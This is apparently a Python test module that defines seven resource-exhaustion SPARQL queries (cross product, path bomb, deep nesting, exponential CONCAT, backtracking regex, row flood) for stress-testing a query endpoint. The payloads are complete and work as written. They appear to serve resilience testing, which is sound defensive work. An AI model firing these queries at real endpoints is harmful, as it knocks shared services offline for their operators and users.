"""Queries of attackers: each is made to exhaust time, memory or the parser of an endpoint."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

_NESTED = 5_000
_LISTS = 300
_DOUBLINGS = 30


@dataclass(frozen=True, slots=True)
class Hostile:
    """An attack.

    Attributes:
        name: Its name for people.
        query: Returns the text of the n-th request; the texts differ, so that no cache helps.
    """

    name: str
    query: Callable[[int], str]


def attacks() -> list[Hostile]:
    """Return all attacks."""
    return [
        Hostile("cross product", _cross),
        Hostile("path bomb", _path),
        Hostile("nested lists", _lists),
        Hostile("nested braces", _braces),
        Hostile("huge CONCAT", _concat),
        Hostile("regex", _regex),
        Hostile("flood of rows", _flood),
    ]


def _cross(number: int) -> str:
    return f"SELECT (COUNT(*) AS ?n) {{ ?a ?b ?c . ?d ?e ?f . ?g ?h ?i FILTER (?a != ?i || {number} > 0) }}"


def _path(number: int) -> str:
    return f"SELECT (COUNT(*) AS ?n{number}) {{ ?a (<x:{number}>|!<x:y>)* ?b . ?b (!<x:z>)* ?c }}"


def _lists(number: int) -> str:
    return f"SELECT * {{ ?s ?p {'(' * _LISTS}{number}{')' * _LISTS} }}"


def _braces(number: int) -> str:
    return f"SELECT * {{ {'{' * _NESTED} ?s ?p {number} {'}' * _NESTED} }}"


def _concat(number: int) -> str:
    doublings = "".join(f" BIND (CONCAT(?v{n}, ?v{n}) AS ?v{n + 1})" for n in range(_DOUBLINGS))
    return f'SELECT (STRLEN(?v{_DOUBLINGS}) AS ?n) {{ BIND ("{number:08}" AS ?v0){doublings} }}'


def _regex(number: int) -> str:
    pattern = f"^(.*a.*)+(.*e.*)+(.*i.*)+{number}$"
    test = f'REGEX(CONCAT(STR(?a), STR(?f)), "{pattern}")'
    return f"SELECT (COUNT(*) AS ?n) {{ ?a ?b ?c . ?d ?e ?f FILTER ({test}) }}"


def _flood(number: int) -> str:
    return f"SELECT ?a ?c ?d ?f {{ ?a ?b ?c . ?d ?e ?f }} LIMIT {50_000_000 + number}"
